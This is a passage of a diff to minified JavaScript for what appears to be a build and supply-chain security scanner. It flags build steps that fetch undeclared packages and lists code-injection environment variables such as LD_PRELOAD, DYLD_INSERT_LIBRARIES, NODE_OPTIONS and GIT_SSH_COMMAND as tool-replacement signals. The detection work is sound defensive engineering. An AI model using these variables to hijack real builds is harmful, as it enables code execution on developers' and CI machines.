-"@sveltejs/kit"],["ng","@angular/cli"],["cap","@capacitor/cli"],["run-s","npm-run-all"],["run-p","npm-run-all"],["vue-cli-service","@vue/cli-service"]]),SHORTEST=4;
-function isHeld(name,project){const asked4=askedIn(project),known13=PROGRAMS.get(name);return[...asked4].some(each=>each===name||each===known13||each.endsWith(`\
-/${name}`)||name.length>=SHORTEST&&each.startsWith(`@${name}`))}var found3=new WeakMap;function askedIn(project){const known13=found3.get(project);if(known13!==
-void 0)return known13;const names4=[...project.files.values()].filter(({path})=>isPackageManifest(path)).flatMap(file2=>{const parsed10=parseFile(file2);return parsed10.
-ok?["dependencies","devDependencies","optionalDependencies"].flatMap(part=>{const list=member(parsed10.value,part);return list?.kind==="object"?[...list.entries.
-keys()]:[]}):[]}),asked4=new Set(names4);return found3.set(project,asked4),asked4}function commandGrants({rule,by,entry,secrets,commands:commands2},project){const written6=writtenByHook(
-{rule,commands:commands2},project);return commands2.flatMap(ran=>{const writes3=written6.get(ran),act=writes3===void 0?actOf2(ran,project):`writes ${writes3}`;if(act===
-void 0)return[];const seen=classOf5(ran),at2={path:ran.path,line:ran.line,column:1,endLine:ran.line},common3={domain:"steps",machine:"builder",by,entry,text:shown(
-ran),secrets,at:at2};if(writes3!==void 0)return[{...common3,act,rule:"build/configuration-written",class:"reaches"}];const does={...common3,act,rule:ruleOf3(rule,
-seen),class:seen},fetched2=fetchedName(ran);return fetched2===void 0||isHeld(fetched2,project)?[does]:[does,{...common3,act:`fetches ${fetched2}`,rule:ruleOf3(rule,
-"reaches"),class:"reaches"}]})}function ruleOf3(rule,seen){return rule==="build/step-changed"&&seen==="reaches"?"build/step-reaches":rule}function writtenByHook({
-rule,commands:commands2},{location}){if(rule!=="build/hook-changed")return new Map;const own=commands2.filter(({from})=>from.length===0);return new Map(writesIn(
-own,location,new Set).map(({ran,path})=>[ran,path]))}function appsAbove(path,apps){const atRoot=byRoot(apps);return withAncestors(folderOf(path)).flatMap(folder=>atRoot.
-get(folder)??[])}var known=new WeakMap;function byRoot(apps){const atRoot=known.get(apps)??Map.groupBy(apps,({root})=>root);return known.set(apps,atRoot),atRoot}
-function byPath(pattern){return path=>pattern.test(path)}function inApp(is){return(path,apps)=>appsAbove(path,apps).some(app=>is(path,app))}var Cursor=class{text;at=0;constructor(text3){
-this.text=text3}get isAtEnd(){return this.at>=this.text.length}peek(ahead=0){return this.text[this.at+ahead]??""}take(){return this.text[this.at++]??""}startsWith(text3){
-return this.text.startsWith(text3,this.at)}match(sticky){sticky.lastIndex=this.at;const found12=sticky.exec(this.text);if(found12!==null)return this.at=sticky.lastIndex,
-found12}takeThrough(end){const found12=this.text.indexOf(end,this.at),taken4=this.text.slice(this.at,found12<0?this.text.length:found12);return this.at=found12<
-0?this.text.length:found12+end.length,taken4}};function splitBatch(text3){const lines2=text3.slice(0,LONGEST_SCRIPT),commands2=[],ends=/(?:"[^"\n]*"|\^\r?\n|\^.|\bin[ \t]*\([^()'`"\n]*\)|[^"^&|()\n])+/gi;
-for(const{0:source,index}of lines2.matchAll(ends)){const trimmed=source.replace(/^[\s@]+/,"");trimmed===""||/^(?:rem\b|::)/i.test(trimmed)||commands2.push(commandOf(
-trimmed,index+source.length-trimmed.length))}return{commands:commands2,functions:new Map}}function commandOf(source,offset){const assignment=assignmentOf(source),
-words4=assignment===void 0?wordsOf2(source):[],assignments=assignment===void 0?[]:[assignment],targets3=words4.flatMap((word2,i2)=>targetIn(word2,words4[i2+1]));
-return{assignments,words:words4,targets:targets3,inputs:[],fedBy:null,offset,source:onOneLine(source.replace(/\^\r?\n/g," ")),groups:[]}}function targetIn(word2,next2){
-const[first,...rest2]=word2.pieces,file2=first?.kind==="text"?/^[12]?>{1,2}(.*)$/s.exec(first.text)?.[1]:void 0;return file2===void 0?[]:file2===""&&rest2.length===
-0?next2===void 0?[]:[next2]:[{...word2,pieces:[textPiece(file2),...rest2]}]}function assignmentOf(source){const[,read11]=/^set\s+\/[ap]\s+"?([^=\s"]+)=/i.exec(source)??
-[];if(read11!==void 0)return{name:read11,words:[{pieces:[{kind:"computed",splits:!0,commands:[]}],quoted:!0}],isList:!1,adds:!1};const[,quoted4,plain8]=/^set\s+(?:"([^=\s"]+=.*)"|([^=\s/]+=.*))\s*$/is.
+`);return isReaching2||ownLines("",all).length>0||/\w:\/\/(?!localhost)/.test(code2)?"reaches":"unknown"}var TABLES3=[["peerDependencies","peer"],["dependencies",
+"needed"],["optionalDependencies","optional"],["devDependencies","needed"]];function requirementsOf(manifest2,installed){const asked4=new Map;for(const[table2,kind]of TABLES3){
+const dependencies=member(manifest2,table2);if(!(installed&&table2==="devDependencies"||dependencies===void 0)){if(dependencies.kind!=="object"){const text3=JSON.
+stringify(plain(dependencies));/[^\s"[\]]/.test(text3)&&asked4.set(table2,{name:table2,text:text3,kind,isDev:!1,at:dependencies.at});continue}for(const[name,{value}]of dependencies.
+entries){const asks=kind==="peer"&&asBoolean(pick(manifest2,"peerDependenciesMeta",name,"optional"))===!0?"optional peer":kind,text3=asString(value)??"",isDev=table2===
+"devDependencies"&&!asked4.has(name);asked4.set(name,{name,text:text3,kind:asks,isDev,at:value.at})}}}return[...asked4.values()]}function workspacesOf({path,manifest:manifest2,
+patterns:patterns3=patternsIn(manifest2)},{files}){return patterns3.length===0?[]:[...files.keys()].flatMap(each=>{const folder=baseName(each)==="package.json"?
+below(path,folderOf(each)):void 0,pattern=folder?patternFor(folder,patterns3):void 0;return folder===void 0||pattern===void 0?[]:[{folder,pattern}]})}function isWorkspace(folder,manifest2){
+return patternFor(folder,patternsIn(manifest2))!==void 0}function patternsIn(manifest2){const table2=member(manifest2,"workspaces");return stringsOf(table2?.kind===
+"object"?member(table2,"packages"):table2)}function patternFor(folder,patterns3){const last=patterns3.findLast(({value})=>fits(partsOf3(value.replace(/^!/,"")),
+folder.split("/")));return last?.value.startsWith("!")?void 0:last}function partsOf3(pattern){return pattern.split("/").filter(part=>part!==""&&part!==".")}function fits(pattern,folder){
+let fitting=[!0,...folder.map(()=>!1)];for(const part of pattern){const before3=fitting;fitting=before3.map((_3,i2)=>part==="**"?before3.slice(0,i2+1).includes(
+!0):i2>0&&before3[i2-1]===!0&&fitsName(part,folder[i2-1]??""))}return fitting.at(-1)===!0}function fitsName(pattern,name){if(/[?[\]{}()]/.test(pattern))return!0;
+const[first="",...others]=pattern.split("*");if(others.length===0)return pattern===name;const last=others.pop()??"";if(!name.startsWith(first)||!name.endsWith(last)||
+name.length<first.length+last.length)return!1;let at2=first.length;for(const other of others){const found12=name.indexOf(other,at2);if(found12<0||found12+other.
+length>name.length-last.length)return!1;at2=found12+other.length}return!0}var MOST_FOLDERS=1e3,FOLDER=/^(?:(?:file|portal):|(?=\.{1,2}\/))(.+)$/;function installedFolders(project){
+const known13=found3.get(project);if(known13!==void 0)return known13;const folders=new Set(withAncestors(project.location.root));for(const folder of folders)for(const other of ledFrom(
+folder,project))folders.size<MOST_FOLDERS&&folders.add(other);const installed=[...folders].filter(folder=>project.files.has(inFolder(folder,"package.json")));return found3.
+set(project,installed),installed}var found3=new WeakMap;function ledFrom(folder,project){const manifest2=valueAt(inFolder(folder,"package.json"),project),workspace=valueAt(
+inFolder(folder,"pnpm-workspace.yaml"),project),patterns3=[...patternsIn(manifest2),...stringsOf(member(workspace,"packages"))],workspaces=workspacesOf({path:folder,
+manifest:manifest2,patterns:patterns3},project),linked2=requirementsOf(manifest2,!1).flatMap(({text:text3})=>{const[,path]=FOLDER.exec(text3)??[];return path===
+void 0?[]:joined(folder,path)??[]});return[...workspaces.map(each=>inFolder(folder,each.folder)),...linked2]}function valueAt(path,{files}){const file2=files.get(
+path),parsed10=file2&&parseFile(file2);return parsed10?.ok?parsed10.value:void 0}var PROGRAMS=new Map([["api-extractor",["@microsoft/api-extractor"]],["babel",[
+"@babel/cli"]],["biome",["@biomejs/biome"]],["cap",["@capacitor/cli"]],["changeset",["@changesets/cli"]],["commitlint",["@commitlint/cli"]],["graphql-codegen",[
+"@graphql-codegen/cli"]],["lingui",["@lingui/cli"]],["napi",["@napi-rs/cli"]],["ncc",["@vercel/ncc"]],["ng",["@angular/cli"]],["openapi-generator-cli",["@openap\
+itools/openapi-generator-cli"]],["paraglide-js",["@inlang/paraglide-js"]],["playwright",["@playwright/test"]],["run-p",["npm-run-all","npm-run-all2"]],["run-s",
+["npm-run-all","npm-run-all2"]],["sentry-cli",["@sentry/cli"]],["svelte-kit",["@sveltejs/kit"]],["swc",["@swc/cli"]],["tailwindcss",["@tailwindcss/cli"]],["taur\
+i",["@tauri-apps/cli"]],["tsc",["typescript"]],["unocss",["@unocss/cli"]],["vue-cli-service",["@vue/cli-service"]],["wdio",["@wdio/cli"]]]);function isHeld(name,folders,project){
+const packages=[name,...PROGRAMS.get(name)??[]],installed=askedAround(project);if(packages.some(each=>installed.has(each)))return!0;const own=(folders??[]).flatMap(
+withAncestors).flatMap(folder=>askedIn(folder,project));return packages.some(each=>own.includes(each))}var found4=new WeakMap;function askedAround(project){const known13=found4.
+get(project);if(known13!==void 0)return known13;const asked4=new Set(installedFolders(project).flatMap(folder=>askedIn(folder,project)));return found4.set(project,
+asked4),asked4}function askedIn(folder,{files}){const file2=files.get(inFolder(folder,"package.json")),parsed10=file2&&parseFile(file2);return parsed10?.ok!==!0?
+[]:["dependencies","devDependencies","optionalDependencies"].flatMap(part=>{const list=member(parsed10.value,part);return list?.kind==="object"?[...list.entries.
+keys()]:[]})}function commandGrants({rule,by,entry,secrets,commands:commands2},project){const written6=writtenByHook({rule,commands:commands2},project);return commands2.
+flatMap(ran=>{const writes3=written6.get(ran),act=writes3===void 0?actOf2(ran,project):`writes ${writes3}`;if(act===void 0)return[];const seen=classOf5(ran),at2={
+path:ran.path,line:ran.line,column:1,endLine:ran.line},common3={domain:"steps",machine:"builder",by,entry,text:shown(ran),secrets,at:at2};if(writes3!==void 0)return[
+{...common3,act,rule:"build/configuration-written",class:"reaches"}];const does={...common3,act,rule:ruleOf3(rule,seen),class:seen},fetched2=fetchedBy(ran,project);
+return fetched2===void 0?[does]:[does,{...common3,act:fetched2,rule:ruleOf3(rule,"reaches"),class:"reaches"}]})}function fetchingGrants({rule,entry,secrets,leading=[]},project){
+return leading.flatMap(ran=>{const act=fetchedBy(ran,project);if(act===void 0||OF_TAURI.test(act)||classOf5(ran)==="reaches")return[];const at2={path:ran.path,line:ran.
+line,column:1,endLine:ran.line},[by,text3,seen]=[(0,import_shared_acegpst.code)(ran.path),shown(ran),"reaches"];return[{domain:"steps",machine:"builder",rule:ruleOf3(
+rule,seen),act,by,entry,text:text3,class:seen,secrets,at:at2}]})}var OF_TAURI=/^fetches (?:tauri$|@tauri-apps\/)/;function fetchedBy(ran,project){const name=fetchedName(
+ran);return name===void 0||isHeld(name,ran.folders,project)?void 0:`fetches ${name}`}function ruleOf3(rule,seen){return rule==="build/step-changed"&&seen==="rea\
+ches"?"build/step-reaches":rule}function writtenByHook({rule,commands:commands2},{location}){if(rule!=="build/hook-changed")return new Map;const own=commands2.filter(
+({from})=>from.length===0);return new Map(writesIn(own,location,new Set).map(({ran,path})=>[ran,path]))}function appsAbove(path,apps){const atRoot=byRoot(apps);
+return withAncestors(folderOf(path)).flatMap(folder=>atRoot.get(folder)??[])}var known=new WeakMap;function byRoot(apps){const atRoot=known.get(apps)??Map.groupBy(
+apps,({root})=>root);return known.set(apps,atRoot),atRoot}function byPath(pattern){return path=>pattern.test(path)}function inApp(is){return(path,apps)=>appsAbove(
+path,apps).some(app=>is(path,app))}var Cursor=class{text;at=0;constructor(text3){this.text=text3}get isAtEnd(){return this.at>=this.text.length}peek(ahead=0){return this.
+text[this.at+ahead]??""}take(){return this.text[this.at++]??""}startsWith(text3){return this.text.startsWith(text3,this.at)}match(sticky){sticky.lastIndex=this.
+at;const found12=sticky.exec(this.text);if(found12!==null)return this.at=sticky.lastIndex,found12}takeThrough(end){const found12=this.text.indexOf(end,this.at),
+taken4=this.text.slice(this.at,found12<0?this.text.length:found12);return this.at=found12<0?this.text.length:found12+end.length,taken4}};function splitBatch(text3){
+const lines2=text3.slice(0,LONGEST_SCRIPT),commands2=[],ends=/(?:"[^"\n]*"|\^\r?\n|\^.|\bin[ \t]*\([^()'`"\n]*\)|[^"^&|()\n])+/gi;for(const{0:source,index}of lines2.
+matchAll(ends)){const trimmed=source.replace(/^[\s@]+/,"");trimmed===""||/^(?:rem\b|::)/i.test(trimmed)||commands2.push(commandOf(trimmed,index+source.length-trimmed.
+length))}return{commands:commands2,functions:new Map}}function commandOf(source,offset){const assignment=assignmentOf(source),words4=assignment===void 0?wordsOf2(
+source):[],assignments=assignment===void 0?[]:[assignment],targets3=words4.flatMap((word2,i2)=>targetIn(word2,words4[i2+1]));return{assignments,words:words4,targets:targets3,
+inputs:[],fedBy:null,offset,source:onOneLine(source.replace(/\^\r?\n/g," ")),groups:[]}}function targetIn(word2,next2){const[first,...rest2]=word2.pieces,file2=first?.
+kind==="text"?/^[12]?>{1,2}(.*)$/s.exec(first.text)?.[1]:void 0;return file2===void 0?[]:file2===""&&rest2.length===0?next2===void 0?[]:[next2]:[{...word2,pieces:[
+textPiece(file2),...rest2]}]}function assignmentOf(source){const[,read11]=/^set\s+\/[ap]\s+"?([^=\s"]+)=/i.exec(source)??[];if(read11!==void 0)return{name:read11,
+words:[{pieces:[{kind:"computed",splits:!0,commands:[]}],quoted:!0}],isList:!1,adds:!1};const[,quoted4,plain8]=/^set\s+(?:"([^=\s"]+=.*)"|([^=\s/]+=.*))\s*$/is.
 exec(source)??[],[name,...rest2]=(quoted4??plain8??"").split("=");if(name===void 0||rest2.length===0)return;const pieces=piecesOf(rest2.join("=").trimEnd().replace(
 /\^(.)/g,"$1"),!1);return{name,words:[{pieces,quoted:!0}],isList:!1,adds:!1}}function wordsOf2(source){const cursor=new Cursor(source),words4=[];for(;!cursor.isAtEnd;)
 cursor.match(/(?:[\s,;]|\^\r?\n)+/y)===void 0&&words4.push(word(cursor));return words4}function word(cursor){let text3="",isQuoted=!1,quoted4=!1;for(;!cursor.isAtEnd&&
@@ -3827,25 +3862,29 @@ return text3.replace(/&(?:#x([\da-f]{1,6})|#(\d{1,7})|(\w+));/gi,(whole2,hex,dec
 Number(decimal):Number.parseInt(hex,16);return number<=1114111?String.fromCodePoint(number):whole2})}function scriptsBelow(value){return value.kind==="array"?value.
 items.flatMap(scriptsBelow):value.kind!=="object"?[]:[...value.entries].flatMap(([name,{value:inner}])=>name==="script"&&inner.kind==="string"?[inner]:scriptsBelow(
 inner))}var REPLACES=/^(?:TAURI_BUNDLER_TOOLS_GITHUB_MIRROR(?:_TEMPLATE)?|TAURI_WINDOWS_SIGNTOOL_PATH|TAURI_(?:APP|FRONTEND)_PATH|RUSTC|RUSTDOC|(?:CARGO_BUILD_)?RUSTC(?:_WORKSPACE)?_WRAPPER|CARGO_BUILD_RUSTC|CARGO_TARGET_\w+_(?:LINKER|RUNNER)|RUSTUP_(?:DIST_SERVER|UPDATE_ROOT)|NODE_OPTIONS|BUN_OPTIONS|npm_config_(?:script_shell|node_options|globalconfig|userconfig|git)|npm_execpath|BASH_ENV|LD_PRELOAD|LD_AUDIT|DYLD_INSERT_LIBRARIES|PERL5OPT|RUBYOPT|PYTHONSTARTUP|PYTHONHOME|JAVA_TOOL_OPTIONS|GIT_(?:SSH|SSH_COMMAND|EXEC_PATH|CONFIG_GLOBAL|PROXY_COMMAND))$/i,
-NAMES_PROGRAM=/^(?:PATH|CC|CXX|AR|LD|HOST_CC|(?:CC|CXX|AR)_\w+|PYTHON|PYTHONPATH|NODE_PATH|SHELL|MAKE|CMAKE|PKG_CONFIG|PERL5LIB|RUBYLIB)$/,IN_REPOSITORY=/(?:^|[:;])(?:\.{1,2}[\\/]|\$(?:\{?PWD\}?|\(pwd\)|\{?GITHUB_WORKSPACE\}?|\{\{\s*github\.workspace\s*\}\})[\\/]|(?![A-Za-z]:)[\w-]+\/)(?![^:;]*node_modules[\\/]\.bin)/,
+NAMES_PROGRAM=/^(?:CC|CXX|AR|LD|HOST_CC|(?:CC|CXX|AR)_\w+|PYTHON|PYTHONPATH|NODE_PATH|SHELL|MAKE|CMAKE|PKG_CONFIG|PERL5LIB|RUBYLIB)$/,IS_LIST=/^(?:PYTHONPATH|NODE_PATH|PERL5LIB|RUBYLIB)$/,
+BARE_FOLDER=/(?<=^|[:;])([\w.-]{2,}|\.)(?=$|[:;])/g,IN_REPOSITORY=/(?:^|[:;])(?:\.{1,2}[\\/]|\$(?:\{?PWD\}?|\(pwd\)|\{?GITHUB_WORKSPACE\}?|\{\{\s*github\.workspace\s*\}\})[\\/]|(?![A-Za-z]:)[\w-]+\/)(?![^:;]*node_modules[\\/]\.bin)/,
 USUAL=/^(?:sccache|ccache|buildcache|\$\{?\w+\}?|--(?:max[-_]old[-_]space[-_]size=\S+|no-\S+|openssl-legacy-provider|unhandled-rejections=\S+|trace-\S+|enable-source-maps|experimental-strip-types)|-Xm[sx]\w+|-D[\w.]+=\S+)$/;
-function replacesProgram(name,value){const words4=value.split(/\s+/).filter(word2=>word2!=="");return REPLACES.test(name)&&!words4.every(word2=>USUAL.test(word2))||
-NAMES_PROGRAM.test(name)&&IN_REPOSITORY.test(value)}function variablesSet(ran){const{sets,variables,words:words4,source,fedBy,inputs}=ran,assigned2=sets.flatMap(
+function replacesProgram(name,value){const words4=value.split(/\s+/).filter(word2=>word2!=="");if(REPLACES.test(name))return!words4.every(word2=>USUAL.test(word2));
+if(name.toUpperCase()==="PATH")return IN_REPOSITORY.test(value.replace(BARE_FOLDER,"$1/"));const parts2=IS_LIST.test(name)?[value]:words4;return NAMES_PROGRAM.test(
+name)&&parts2.some(part=>IN_REPOSITORY.test(part))}function variablesSet(ran){const{sets,variables,words:words4,source,fedBy,inputs}=ran,assigned2=sets.flatMap(
 name=>(variables.get(name)??[]).map(value=>[name,value.join(" ")])),program2=words4.findIndex((word2,i2)=>i2>0&&!/^-|^\w+=/.test(word2)),leading=words4.slice(1,
 program2<0?void 0:program2),texts2=[source,fedBy??"",...inputs].join(`
 `),later=/\bGITHUB_ENV\b/.test(texts2)?texts2.split(/["'\n]/):[],given2=[...leading,...later].flatMap(text3=>{const[,name,value=""]=/^(?:\s*(?:echo|printf)\s+)?(\w+)=(.*)$/s.
-exec(text3)??[];return name===void 0?[]:[[name,value.replace(/\s*>>.*$/s,"")]]});return[...assigned2,...given2,...pathsAdded(texts2)]}function pathsAdded(text3){
-if(!/\bGITHUB_PATH\b/.test(text3))return[];const[,added]=/^\s*(?:echo|printf|write-output)\s+["']?([^"'>|]*)/im.exec(text3)??[];return added===void 0?[]:[["PATH",
-`${added.trim()}/`]]}function replacedGrants(project,runs2,secrets){return[...ofCommands(runs2),...ofTauri(project),...ofCargo(project),...ofToolchain(project),
-...ofGradle(project)].map(({by,text:text3,at:at2})=>({domain:"steps",rule:"build/tool-replaced",act:text3,machine:"builder",by:(0,import_shared_acegpst.code)(by),
-entry:"",text:text3,class:"reaches",secrets,at:at2}))}function ofCommands(runs2){return runs2.flatMap(({by,commands:commands2})=>commands2.flatMap(ran=>variablesSet(
-ran).flatMap(([name,value])=>{const at2={path:ran.path,line:ran.line,column:1,endLine:ran.line};return ran.source.includes(name)&&replacesProgram(name,value)?[{
-by:by.replaceAll("`",""),text:`${name}=${value}`,at:at2}]:[]})))}var NAMES_TAURI=/(?:^|[\s"'&;|/])(?:cargo-)?tauri(?:@\S+)?(?=$|[\s"'&;|])|@tauri-apps\/cli/;function ofTauri({
-location,files}){return withAncestors(location.root).flatMap(folder=>{const file2=files.get(inFolder(folder,"package.json"));return(file2===void 0?[]:packageScripts(
-file2)).flatMap(({name,text:{value,at:at2}})=>name==="tauri"&&!NAMES_TAURI.test(value)?[{by:file2?.path??"",text:`tauri: ${value}`,at:at2}]:[])})}function ofCargo({
-location,files}){return cargoConfigs(location.root,files).flatMap(config=>{const alias=pick(config,"alias","tauri");if(alias===void 0)return[];const words4=asString(
-alias)??JSON.stringify(alias.kind==="array"?alias.items.map(asString):"");return[{by:alias.at.path,text:`alias.tauri = ${words4}`,at:alias.at}]})}var TOOLCHAIN_FILES=[
-"rust-toolchain","rust-toolchain.toml"];function ofToolchain({location,files}){return withAncestors(location.root).flatMap(folder=>TOOLCHAIN_FILES.flatMap(name=>{
+exec(text3)??[];return name===void 0?[]:[[name,value.replace(/\s*>>.*$/s,"")]]});return[...assigned2,...given2,...pathsAdded(ran)].map(([name,value])=>[name,value.
+replaceAll(absolute(""),"$GITHUB_WORKSPACE")])}function pathsAdded({source,fedBy,inputs}){const texts2=[source,fedBy??""];return texts2.some(text3=>/\bGITHUB_PATH\b/.
+test(text3))?[...texts2.flatMap(text3=>[...text3.matchAll(TOLD)].map(([,one3,other])=>one3??other??"")),...inputs.flatMap(input=>input.split(`
+`))].flatMap(path=>path.trim()===""?[]:[["PATH",`${path.trim()}/`]]):[]}var TOLD=/^\s*(?:echo|printf|write-output)\s+["']?([^"'>|]*)|^\s*["']([^"'|]*)["']\s*$/gim;
+function replacedGrants(project,runs2,secrets){return[...ofCommands(runs2),...ofTauri(project),...ofCargo(project),...ofToolchain(project),...ofGradle(project)].
+map(({by,text:text3,at:at2})=>({domain:"steps",rule:"build/tool-replaced",act:text3,machine:"builder",by:(0,import_shared_acegpst.code)(by),entry:"",text:text3,
+class:"reaches",secrets,at:at2}))}function ofCommands(runs2){return runs2.flatMap(({by,commands:commands2})=>commands2.flatMap(ran=>variablesSet(ran).flatMap(([
+name,value])=>{const at2={path:ran.path,line:ran.line,column:1,endLine:ran.line};return ran.source.includes(name)&&replacesProgram(name,value)?[{by:by.replaceAll(
+"`",""),text:`${name}=${value}`,at:at2}]:[]})))}var NAMES_TAURI=/(?:^|[\s"'&;|/])(?:cargo-)?tauri(?:@\S+)?(?=$|[\s"'&;|])|@tauri-apps\/cli/;function ofTauri({location,
+files}){return withAncestors(location.root).flatMap(folder=>{const file2=files.get(inFolder(folder,"package.json"));return(file2===void 0?[]:packageScripts(file2)).
+flatMap(({name,text:{value,at:at2}})=>name==="tauri"&&!NAMES_TAURI.test(value)?[{by:file2?.path??"",text:`tauri: ${value}`,at:at2}]:[])})}function ofCargo({location,
+files}){return cargoConfigs(location.root,files).flatMap(config=>{const alias=pick(config,"alias","tauri");if(alias===void 0)return[];const words4=asString(alias)??
+JSON.stringify(alias.kind==="array"?alias.items.map(asString):"");return[{by:alias.at.path,text:`alias.tauri = ${words4}`,at:alias.at}]})}var TOOLCHAIN_FILES=["\
+rust-toolchain","rust-toolchain.toml"];function ofToolchain({location,files}){return withAncestors(location.root).flatMap(folder=>TOOLCHAIN_FILES.flatMap(name=>{
 const file2=files.get(inFolder(folder,name));if(file2===void 0)return[];const parsed10=file2.path.endsWith(".toml")?parseFile(file2):parseToml(file2),path=parsed10.
 ok?member(member(parsed10.value,"toolchain"),"path"):void 0;return path===void 0?[]:[{by:file2.path,text:`toolchain.path = ${asString(path)??""}`,at:path.at}]}))}
 function ofGradle({location,files}){return[...files.values()].filter(({path})=>path.endsWith(".properties")&&isOfPhones(path,location)).flatMap(({path,text:text3})=>text3.
@@ -3858,36 +3897,14 @@ e project of a phone",role:"native",coverage:"in part",why:"Read for what Gradle
 ttings.",samples:["src-tauri/gen/android/app/build.gradle.kts","src-tauri/gen/android/gradle/wrapper/gradle-wrapper.properties","src-tauri/gen/apple/notes.xcode\
 proj/project.pbxproj","src-tauri/gen/apple/Podfile"],knownAs:[],is:inApp(isOfPhones),wants:isOfPhones},{name:"the choice of a toolchain",role:"settings",coverage:"\
 read",why:"Read for a toolchain by its path, which is a program of the repository.",samples:["rust-toolchain.toml","src-tauri/rust-toolchain"],knownAs:[],is:byPath(
-/(?:^|\/)rust-toolchain(?:\.toml)?$/),wants:(path,{root})=>TOOLCHAIN_FILES.some(name=>name===baseName(path))&&withAncestors(root).includes(folderOf(path))}],TABLES3=[
-["peerDependencies","peer"],["dependencies","needed"],["optionalDependencies","optional"],["devDependencies","needed"]];function requirementsOf(manifest2,installed){
-const asked4=new Map;for(const[table2,kind]of TABLES3){const dependencies=member(manifest2,table2);if(!(installed&&table2==="devDependencies"||dependencies===void 0)){
-if(dependencies.kind!=="object"){const text3=JSON.stringify(plain(dependencies));/[^\s"[\]]/.test(text3)&&asked4.set(table2,{name:table2,text:text3,kind,isDev:!1,
-at:dependencies.at});continue}for(const[name,{value}]of dependencies.entries){const asks=kind==="peer"&&asBoolean(pick(manifest2,"peerDependenciesMeta",name,"op\
-tional"))===!0?"optional peer":kind,text3=asString(value)??"",isDev=table2==="devDependencies"&&!asked4.has(name);asked4.set(name,{name,text:text3,kind:asks,isDev,
-at:value.at})}}}return[...asked4.values()]}function workspacesOf({path,manifest:manifest2,patterns:patterns3=patternsIn(manifest2)},{files}){return patterns3.length===
-0?[]:[...files.keys()].flatMap(each=>{const folder=baseName(each)==="package.json"?below(path,folderOf(each)):void 0,pattern=folder?patternFor(folder,patterns3):
-void 0;return folder===void 0||pattern===void 0?[]:[{folder,pattern}]})}function isWorkspace(folder,manifest2){return patternFor(folder,patternsIn(manifest2))!==
-void 0}function patternsIn(manifest2){const table2=member(manifest2,"workspaces");return stringsOf(table2?.kind==="object"?member(table2,"packages"):table2)}function patternFor(folder,patterns3){
-const last=patterns3.findLast(({value})=>fits(partsOf3(value.replace(/^!/,"")),folder.split("/")));return last?.value.startsWith("!")?void 0:last}function partsOf3(pattern){
-return pattern.split("/").filter(part=>part!==""&&part!==".")}function fits(pattern,folder){let fitting=[!0,...folder.map(()=>!1)];for(const part of pattern){const before2=fitting;
-fitting=before2.map((_3,i2)=>part==="**"?before2.slice(0,i2+1).includes(!0):i2>0&&before2[i2-1]===!0&&fitsName(part,folder[i2-1]??""))}return fitting.at(-1)===!0}
-function fitsName(pattern,name){if(/[?[\]{}()]/.test(pattern))return!0;const[first="",...others]=pattern.split("*");if(others.length===0)return pattern===name;const last=others.
-pop()??"";if(!name.startsWith(first)||!name.endsWith(last)||name.length<first.length+last.length)return!1;let at2=first.length;for(const other of others){const found12=name.
-indexOf(other,at2);if(found12<0||found12+other.length>name.length-last.length)return!1;at2=found12+other.length}return!0}var MOST_FOLDERS=1e3,FOLDER=/^(?:(?:file|portal):|(?=\.{1,2}\/))(.+)$/;
-function installedFolders(project){const known13=found4.get(project);if(known13!==void 0)return known13;const folders=new Set(withAncestors(project.location.root));
-for(const folder of folders)for(const other of ledFrom(folder,project))folders.size<MOST_FOLDERS&&folders.add(other);const installed=[...folders].filter(folder=>project.
-files.has(inFolder(folder,"package.json")));return found4.set(project,installed),installed}var found4=new WeakMap;function ledFrom(folder,project){const manifest2=valueAt(
-inFolder(folder,"package.json"),project),workspace=valueAt(inFolder(folder,"pnpm-workspace.yaml"),project),patterns3=[...patternsIn(manifest2),...stringsOf(member(
-workspace,"packages"))],workspaces=workspacesOf({path:folder,manifest:manifest2,patterns:patterns3},project),linked2=requirementsOf(manifest2,!1).flatMap(({text:text3})=>{
-const[,path]=FOLDER.exec(text3)??[];return path===void 0?[]:joined(folder,path)??[]});return[...workspaces.map(each=>inFolder(folder,each.folder)),...linked2]}function valueAt(path,{
-files}){const file2=files.get(path),parsed10=file2&&parseFile(file2);return parsed10?.ok?parsed10.value:void 0}var GYP=/\.gypi?$/;function ofNativeBuilds(project){
-const folders=new Set(builtFolders(project));return path=>GYP.test(path)&&[...folders].some(folder=>folder===""||path.startsWith(`${folder}/`))}function nativeBuildGaps(project){
-return builtFolders(project).map(folder=>{const path=inFolder(folder,"binding.gyp"),read11=project.contents.below(folder).filter(item=>GYP.test(item.path)),message=`\
-Installing packages has node-gyp build ${(0,import_shared_acegpst.code)(path)}, which may start any program: nothing in it is judged. Read it before you merge.`,
-rests=(0,import_shared_acegos.wordsOf)("node-gyp",folder,read11.map(({path:each,id})=>[each,id]));return(0,import_shared_acegos.gapIn)(path,{kind:"not-followed",
-rests,message})})}function builtFolders(project){return installedFolders(project).filter(folder=>project.contents.isFile(inFolder(folder,"binding.gyp"))&&!buildsOtherwise(
-folder,project))}function buildsOtherwise(folder,{files}){const file2=files.get(inFolder(folder,"package.json")),parsed10=file2&&parseFile(file2);return parsed10?.
-ok?["preinstall","install"].map(name=>asString(pick(parsed10.value,"scripts",name))).some(Boolean):!1}var REACHING6=/\b(?:URL\s*\(|(?:openStream|openConnection|HttpClient|OkHttp\w*|\w*Socket|forName|loadClass|getDeclaredMethod|URLClassLoader|ScriptEngine\w*|GroovyShell|Eval|Base64)\b|System\.getenv\s*\(\s*\)|ant\.\w)|\\u0/,
+/(?:^|\/)rust-toolchain(?:\.toml)?$/),wants:(path,{root})=>TOOLCHAIN_FILES.some(name=>name===baseName(path))&&withAncestors(root).includes(folderOf(path))}],GYP=/\.gypi?$/;
+function ofNativeBuilds(project){const folders=new Set(builtFolders(project));return path=>GYP.test(path)&&[...folders].some(folder=>folder===""||path.startsWith(
+`${folder}/`))}function nativeBuildGaps(project){return builtFolders(project).map(folder=>{const path=inFolder(folder,"binding.gyp"),read11=project.contents.below(
+folder).filter(item=>GYP.test(item.path)),message=`Installing packages has node-gyp build ${(0,import_shared_acegpst.code)(path)}, which may start any program: \
+nothing in it is judged. Read it before you merge.`,rests=(0,import_shared_acegos.wordsOf)("node-gyp",folder,read11.map(({path:each,id})=>[each,id]));return(0,import_shared_acegos.gapIn)(
+path,{kind:"not-followed",rests,message})})}function builtFolders(project){return installedFolders(project).filter(folder=>project.contents.isFile(inFolder(folder,
+"binding.gyp"))&&!buildsOtherwise(folder,project))}function buildsOtherwise(folder,{files}){const file2=files.get(inFolder(folder,"package.json")),parsed10=file2&&
